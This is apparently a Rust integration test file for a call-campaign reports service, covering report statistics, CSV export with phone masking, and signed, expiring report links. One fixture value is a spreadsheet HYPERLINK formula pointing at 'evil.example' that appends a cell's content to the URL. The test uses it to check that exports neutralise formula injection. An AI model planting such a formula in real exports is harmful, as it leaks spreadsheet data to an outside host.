//! The reports function on both stores: a fixture campaign's report equals its calls worked out
//! by hand, the CSV has its documented columns, one line per call, phones masked unless asked,
//! and the sample events in `events/reports/` are answered by their routes.

use axum::{Router, http::StatusCode};
use chrono::{DateTime, TimeDelta};
use domain::{
    AnsweredBy, CallDetails, CallEvent, CallEventKind, CampaignSettings, CampaignStatus, Cap, E164, EndReason, Money, NewCampaign,
    NewContact,
};
use http_body_util::BodyExt;
use reports::{AppState, CSV_COLUMNS, router};
use serde_json::Value;
use store::Store;
use tower::ServiceExt;

const KEY: &str = "odk_REPLACE_WITH_AN_API_KEY";
const CAMPAIGN: &str = "01970000-0000-7000-8000-0000000ca111";

struct Fixture {
    app: Router,
    key: String,
    org: domain::OrgId,
    campaign: domain::CampaignId,
    secrets: platform::SecretBox,
}

const SUMMARY_FORMULA: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Details\")";

/// Four calls: a person who heard the agent after 0.8 s (60 s, $0.12, a success), a person who
/// waited 3 s (120 s, $0.20), a machine (15 s, $0.03), and no answer.
async fn fixture<S: Store>(store: S) -> Fixture {
    let org = store.create_org("Acme").await.unwrap().id;
    let key = store.create_api_key(org).await.unwrap().secret;
    let settings = CampaignSettings { provider: domain::CallProvider::Simulator, ..Default::default() };
    let campaign = store.create_campaign(org, NewCampaign::parse("Renewals", Cap::parse(10).unwrap(), settings).unwrap()).await.unwrap();
    let t0 = DateTime::parse_from_rfc3339("2027-01-13T17:00:00Z").unwrap().to_utc();
    let contacts = (0..4)
        .map(|i| {
            NewContact::new(
                E164::parse(&format!("+1415555012{i}"), None).unwrap(),
                chrono_tz::UTC,
                domain::Consent::on_file(chrono::Utc::now()),
            )
        })
        .collect();
    store.add_contacts(org, campaign.id, contacts, t0).await.unwrap();
    store.set_campaign_status(org, campaign.id, &[CampaignStatus::Draft], CampaignStatus::Running, t0).await.unwrap();
    let claims = store.claim_due_contacts(org, campaign.id, t0, 4, TimeDelta::zero()).await.unwrap();
    let human = |connect_ms: i64, secs: u32, cost: &str, evaluation: Option<&str>, summary: &str| CallDetails {
        answered_by: Some(AnsweredBy::Human),
        answered_at: Some(t0),
        connected_at: Some(t0 + TimeDelta::milliseconds(connect_ms)),
        duration_secs: Some(secs),
        cost: Some(Money::parse(cost).unwrap()),
        summary: Some(summary.into()),
        success_evaluation: evaluation.map(str::to_string),
        ..Default::default()
    };
    let machine = CallDetails {
        answered_by: Some(AnsweredBy::MachineEnd),
        answered_at: Some(t0),
        duration_secs: Some(15),
        cost: Some(Money::parse("0.03").unwrap()),
        ..Default::default()
    };
    let outcomes = [
        (Some(human(800, 60, "0.12", Some("true"), "Renews.")), EndReason::Completed),
        // the callee's words steer a summary: this one is a spreadsheet formula
        (Some(human(3_000, 120, "0.20", Some("false"), SUMMARY_FORMULA)), EndReason::Completed),
        (Some(machine), EndReason::Completed),
        (None, EndReason::NoAnswer),
    ];
    for (claim, (details, end)) in claims.iter().zip(outcomes) {
        let placed = store::PlacedCall {
            provider: domain::CallProvider::Simulator,
            provider_call_id: format!("sim-{}", claim.call.id),
            // a San Francisco number calling San Francisco numbers
            caller_id: Some(E164::parse("+14155550100", None).unwrap()),
            placed_at: t0,
        };
        store.record_placed_call(org, claim.call.id, placed).await.unwrap();
        let mut events = vec![CallEventKind::Ended { reason: end }];
        if let Some(details) = details {
            events.insert(0, CallEventKind::Details { details: Box::new(details) });
        }
        for (i, kind) in events.into_iter().enumerate() {
            let event = CallEvent { dedupe_key: format!("{}-{i}", claim.call.id), occurred_at: t0 + TimeDelta::minutes(3), kind };
            store.apply_call_event(org, claim.call.id, event, t0 + TimeDelta::minutes(3)).await.unwrap();
        }
    }
    let secrets = platform::SecretBox::ephemeral();
    let (app, _) =
        router().with_state(AppState { store, secrets: Some(secrets.clone()), report_time_zone: chrono_tz::UTC }).split_for_parts();
    Fixture { app, key, org, campaign: campaign.id, secrets }
}

async fn get(f: &Fixture, uri: &str) -> (StatusCode, String, String) {
    send(f, "GET", uri, Some(&f.key)).await
}

async fn send(f: &Fixture, method: &str, uri: &str, key: Option<&str>) -> (StatusCode, String, String) {
    let mut request = axum::http::Request::builder().method(method).uri(uri).header("host", "reports.example.com");
    if let Some(key) = key {
        request = request.header("authorization", format!("Bearer {key}"));
    }
    let request = request.body(axum::body::Body::empty()).unwrap();
    let response = f.app.clone().oneshot(request).await.unwrap();
    let status = response.status();
    let content_type = response.headers().get("content-type").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    (status, content_type, String::from_utf8(response.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap())
}

async fn the_report_and_the_csv_show_the_fixture_as_worked_out_by_hand<S: Store>(store: S) {
    let f = fixture(store).await;
    let (status, _, body) = get(&f, &format!("/campaigns/{}/report", f.campaign)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let report: Value = serde_json::from_str(&body).unwrap();
    let calls = &report["calls"];
    assert_eq!((calls["finished"].as_u64(), calls["dialed"].as_u64(), calls["answered"].as_u64()), (Some(4), Some(4), Some(3)));
    assert_eq!(
        (calls["answerRate"].as_f64(), calls["humanRate"].as_f64(), calls["machineRate"].as_f64()),
        (Some(0.75), Some(0.5), Some(0.25))
    );
    assert_eq!((calls["abandonmentRate"].as_f64(), calls["abandonmentUnknown"].as_u64()), (Some(0.5), Some(0)), "{calls}");
    assert_eq!(calls["durationSeconds"], serde_json::json!({"p50": 60, "p90": 120, "p99": 120}));
    assert_eq!(calls["talkSeconds"], 195);
    assert_eq!((calls["cost"]["total"].as_str(), calls["cost"]["perConnectedCall"].as_str()), (Some("0.35"), Some("0.116667")));
    assert_eq!((calls["successRate"].as_f64(), calls["evaluated"].as_u64()), (Some(0.5), Some(2)));
    assert_eq!(calls["byDisposition"], serde_json::json!({"answered_human": 2, "voicemail": 1, "no_answer": 1}));
    assert_eq!(calls["callsPerHour"][0]["calls"], 4);
    assert_eq!(calls["byPresence"], serde_json::json!({"area_code": {"dialed": 4, "answered": 3, "answerRate": 0.75}}));
    assert_eq!((report["contacts"]["total"].as_u64(), report["name"].as_str()), (Some(4), Some("Renewals")));

    let (status, content_type, csv) = get(&f, &format!("/campaigns/{}/calls.csv", f.campaign)).await;
    assert_eq!((status, content_type.as_str()), (StatusCode::OK, "text/csv; charset=utf-8"));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 4);
    assert!(rows.iter().all(|r| r[2].starts_with("+1415***")), "masked: {csv}");
    let first = &rows[0];
    assert_eq!((&first[6], &first[7], &first[11], &first[12], &first[13]), ("answered_human", "human", "60", "0.12", "800"));
    assert_eq!(&rows[1][14], format!("'{SUMMARY_FORMULA}"), "a formula is written as text");
    assert!(rows.iter().all(|r| !r.iter().any(|cell| cell.starts_with(['=', '@']))), "{csv}");
    let (_, _, full) = get(&f, &format!("/campaigns/{}/calls.csv?includePhone=true", f.campaign)).await;
    assert!(full.contains("+14155550120"), "{full}");
    let (status, _, _) = get(&f, &format!("/campaigns/{}/report", domain::CampaignId::new())).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(get(&f, &format!("/campaigns/{}/calls.csv", domain::CampaignId::new())).await.0, StatusCode::NOT_FOUND);
}

/// A shared link opens the HTML report without a key until it expires; a changed or expired
/// one is refused (403), and without a link the page needs a key.
async fn report_links_open_the_page_without_a_key_until_they_expire<S: Store>(store: S) {
    let f = fixture(store).await;
    let (status, _, body) = send(&f, "POST", &format!("/campaigns/{}/report-links", f.campaign), Some(&f.key)).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let link: Value = serde_json::from_str(&body).unwrap();
    let url = link["url"].as_str().unwrap();
    let expires_at = DateTime::parse_from_rfc3339(link["expiresAt"].as_str().unwrap()).unwrap().to_utc();
    let days = (expires_at - chrono::Utc::now()).num_hours();
    assert!((7 * 24 - 1..=7 * 24).contains(&days), "7 days by default: {link}");
    let path = url.strip_prefix("http://reports.example.com").expect("the link is on the host it was asked from");
    let (status, content_type, page) = send(&f, "GET", path, None).await;
    assert_eq!((status, content_type.as_str()), (StatusCode::OK, "text/html; charset=utf-8"), "{page}");
    assert!(page.contains("answer rate, caller ID of the same area code</span><strong>75.0 % of 4"), "the local presence card");
    for chart in ["id=\"funnel\"", "id=\"per-hour\"", "id=\"durations\""] {
        assert!(page.contains(chart), "{chart}");
    }
    let fetches = ["src=", "href=\"http", "url(", "@import"].iter().filter(|f| page.contains(*f)).count();
    assert!(page.contains("Renewals") && fetches == 0, "self-contained: nothing to fetch");

    let tampered = path.replace(&format!("org={}", f.org), &format!("org={}", domain::OrgId::new()));
    let (status, _, problem) = send(&f, "GET", &tampered, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(problem.contains("report-link-invalid"), "{problem}");
    let other_campaign = path.replace(&f.campaign.to_string(), &domain::CampaignId::new().to_string());
    assert_eq!(send(&f, "GET", &other_campaign, None).await.0, StatusCode::FORBIDDEN, "a link opens its own campaign only");
    let past = chrono::Utc::now().timestamp() - 60;
    let signature = f.secrets.sign(&format!("report-link|v1|{}|{}|{past}", f.org, f.campaign));
    let expired = format!("/campaigns/{}/report.html?org={}&expires={past}&signature={signature}", f.campaign, f.org);
    let (status, _, problem) = send(&f, "GET", &expired, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(problem.contains("report-link-expired"), "{problem}");
    assert_eq!(send(&f, "GET", &format!("/campaigns/{}/report.html", f.campaign), None).await.0, StatusCode::UNAUTHORIZED);
    let (status, _, page) = get(&f, &format!("/campaigns/{}/report.html", f.campaign)).await;
    assert!(status == StatusCode::OK && page.contains("<svg"), "with a key, no link needed");
    let too_long = format!("/campaigns/{}/report-links?expiresInDays=91", f.campaign);
    assert_eq!(send(&f, "POST", &too_long, Some(&f.key)).await.0, StatusCode::UNPROCESSABLE_ENTITY);
}

store::on_both_stores!("reports-";
    the_report_and_the_csv_show_the_fixture_as_worked_out_by_hand,
    report_links_open_the_page_without_a_key_until_they_expire
);

#[tokio::test]
async fn every_sample_event_is_answered_by_its_route() {
    let f = fixture(store::SqliteStore::open_in_memory().unwrap()).await;
    let campaign = f.campaign.to_string();
    let (status, report) = platform::testing::invoke_event(&f.app, "reports/report.json", &[(KEY, &f.key), (CAMPAIGN, &campaign)]).await;
    assert_eq!((status, report["calls"]["finished"].as_u64()), (StatusCode::OK, Some(4)), "{report}");
    let event = platform::testing::load_event("reports/calls-csv.json", &[(KEY, &f.key), (CAMPAIGN, &campaign)]);
    let request = lambda_http::request::from_str(&event).unwrap().map(|b| axum::body::Body::from(b.to_vec()));
    let response = f.app.clone().oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let csv = String::from_utf8(response.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap();
    assert_eq!(csv.lines().count(), 5, "a header and four calls: {csv}");
    assert!(csv.contains("+14155550120"), "the sample asks for full phones");
    let (status, recipients) = platform::testing::invoke_event(&f.app, "reports/daily-recipients.json", &[(KEY, &f.key)]).await;
    assert_eq!((status, recipients["recipients"][0].as_str()), (StatusCode::OK, Some("ops@acme.example")), "{recipients}");
    let (status, daily) = platform::testing::invoke_event(&f.app, "reports/daily-report.json", &[(KEY, &f.key)]).await;
    assert_eq!((status, daily["complete"].as_bool()), (StatusCode::OK, Some(true)), "{daily}");
}
